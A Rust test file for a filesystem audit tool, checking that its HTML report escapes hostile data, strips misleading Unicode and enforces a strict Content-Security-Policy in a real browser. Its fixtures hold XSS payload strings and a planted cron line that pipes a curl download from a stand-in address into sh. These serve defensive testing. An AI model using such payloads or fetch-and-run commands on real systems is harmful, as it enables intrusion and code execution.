//! The page of a hostile report, in a real browser and byte by byte.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests
#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use coroner_testkit::Tree;
use serde_json::{Value, json};
use support::{coroner, status};

/// What tries to become markup, to end the data, or to mislead the eye.
const HOSTILE: &str = "</script><script>window.pwned=1;alert(1)</script><img src=x onerror=window.pwned=2>\
                       \"'><svg onload=window.pwned=3><!--<script>]]>&lt;\u{202e}gnp.exe\u{200b}\u{1b}[31m\u{0}\u{2028}";
const ITEMS: usize = 50_000;
/// Enough where nothing is asked of their number.
const FEW: usize = 200;
const NEEDLE: &str = "a-needle-among-them";

struct Page {
    dir: tempfile::TempDir,
    items: usize,
}

impl Page {
    fn path(&self) -> PathBuf {
        self.dir.path().join("page.html")
    }

    fn text(&self) -> String {
        std::fs::read_to_string(self.path()).unwrap()
    }
}

/// A root whose schedule makes findings out of the hostile text.
fn tree() -> Tree {
    let line = HOSTILE.replace('\u{0}', "");
    Tree::new()
        .file("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
        .file("/etc/hostname", "<script>alert(1)</script>\u{202e}\n")
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .file("/etc/shadow", "root:*:19000:0:99999:7:::\n")
        .mode("/etc/shadow", 0o640)
        .file("/etc/group", "root:x:0:\n")
        .file("/etc/cron.d/x", format!("* * * * * root curl http://192.0.2.1/ | sh # {line}\n"))
        .file("/tmp/<script>window.pwned=4</script>/.x", "#!/bin/sh\n")
        .dir("/proc")
        .dir("/sys")
}

/// Every tenth item is hostile in every text, its kind and field names too; the others in their keys.
fn item(number: usize) -> Value {
    if !number.is_multiple_of(10) {
        return json!({"kind": "plain", "key": format!("{number} <b>\u{202e}"), "count": number});
    }
    let needle = if number == FEW / 2 { NEEDLE } else { "" };
    json!({
        "kind": format!("kind{}{HOSTILE}", number % 7), "key": format!("{number} {HOSTILE}{needle}"),
        "command": HOSTILE, HOSTILE: [HOSTILE, { HOSTILE: HOSTILE }], "count": number,
        "text": format!("%bytes:%FF{HOSTILE}"),
    })
}

fn gap(number: usize) -> Value {
    json!({"plugin": HOSTILE, "path": HOSTILE, "reason": "denied", "detail": HOSTILE, "matters": number.is_multiple_of(2)})
}

/// The report of that root, made far worse, and its page.
fn hostile(lang: &str, items: usize) -> Page {
    let (root, dir) = (tree().write(), tempfile::tempdir().unwrap());
    let audit =
        coroner().args(["audit", "--format=json", "--root"]).arg(root.path()).output().unwrap();
    let mut report: Value = serde_json::from_slice(&audit.stdout).unwrap();
    let all = report["items"].as_array_mut().unwrap();
    all.extend((0..items).map(item));
    let count = all.len();
    report["gaps"].as_array_mut().unwrap().extend((0..40).map(gap));
    report["coverage"][0]["why"] = json!(HOSTILE);
    report["tool"]["version"] = json!(HOSTILE);
    report["host"]["labels"][HOSTILE] = json!(HOSTILE);
    let saved = dir.path().join("report.json");
    std::fs::write(&saved, serde_json::to_vec(&report).unwrap()).unwrap();
    let page = Page { dir, items: count };
    let judged = coroner()
        .args(["judge", "--format=html", "--lang", lang, "-o"])
        .args([page.path(), saved])
        .output()
        .unwrap();
    assert!((1..4).contains(&status(&judged)), "{}", String::from_utf8_lossy(&judged.stderr));
    page
}

#[test]
fn no_byte_of_a_hostile_report_is_markup_or_misleads() {
    let text = hostile("en", FEW).text();
    assert!(text.contains("http://192.0.2.1/"), "the finding shows its evidence");
    assert_eq!(text.matches("<script").count(), 2, "the data and our own script");
    assert_eq!(text.matches("</script").count(), 2);
    assert!(!text.contains("<img") && !text.contains("<svg onload") && !text.contains("<!--"));
    let misleads = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
    };
    assert_eq!(text.chars().find(|&c| misleads(c)), None);
    assert!(text.contains("\\u{202e}"), "what misleads is shown by its number");
}

#[test]
fn the_page_allows_nothing_but_its_own_style_and_script() {
    let text = hostile("zh", FEW).text();
    let policy = text.split("Content-Security-Policy\" content=\"").nth(1).unwrap();
    let policy = policy.split('"').next().unwrap();
    assert!(policy.starts_with("default-src 'none'; style-src 'sha256-"), "{policy}");
    assert!(
        !policy.contains("unsafe") && !policy.contains("http") && !policy.contains('*'),
        "{policy}"
    );
    assert!(text.starts_with("<!DOCTYPE html><html lang=\"zh-CN\">"));
    assert!(text.contains("已被入侵") || text.contains("可疑"));
}

#[test]
fn the_language_of_text_follows_the_locale_and_json_stays_english() {
    let root = tree().write();
    let said = |format: &str, locale: &str| {
        let mut audit = coroner();
        audit
            .env("LC_ALL", locale)
            .env("TERM", "xterm")
            .args(["audit", "--format", format, "--root"]);
        String::from_utf8_lossy(&audit.arg(root.path()).output().unwrap().stdout).into_owned()
    };
    assert!(said("text", "zh_CN.UTF-8").contains("原因"));
    assert!(said("text", "C.UTF-8").contains("why"));
    let json = said("json", "zh_CN.UTF-8");
    assert!(!json.contains('因'), "reports of hosts are compared");
}

fn check(page: &Page) -> (bool, String) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/page/check.py");
    let output = Command::new("python3")
        .arg("-B")
        .arg(script)
        .args([page.path().display().to_string(), page.items.to_string(), NEEDLE.to_owned()])
        .output()
        .expect("python3 runs: tests/run installs it");
    let said = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8_lossy(&said).into_owned())
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs chromium and chromedriver: run tests/run")]
fn a_browser_shows_a_hostile_report_of_fifty_thousand_items_and_runs_nothing_of_it() {
    let page = hostile("en", ITEMS);
    let (fine, said) = check(&page);
    assert!(fine, "{said}");
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs chromium and chromedriver: run tests/run")]
fn the_check_in_the_browser_fails_on_a_page_that_something_got_into() {
    let page = hostile("en", FEW);
    let text = page.text();
    let (markup, said) = {
        let entered = text.replacen("<main", "<img alt=\"\"><main", 1);
        std::fs::write(page.path(), entered).unwrap();
        check(&page)
    };
    assert!(!markup && said.contains("foreign"), "{said}");
    let open = text.replacen("default-src 'none'", "default-src 'none' ", 1);
    let open = open.replacen("script-src '", "script-src 'unsafe-inline' '", 1).replacen(
        "<main",
        "<a href=\"#\" onfocus=\"\"></a><main",
        1,
    );
    std::fs::write(page.path(), open).unwrap();
    assert!(!check(&page).0, "a handler is seen");
}
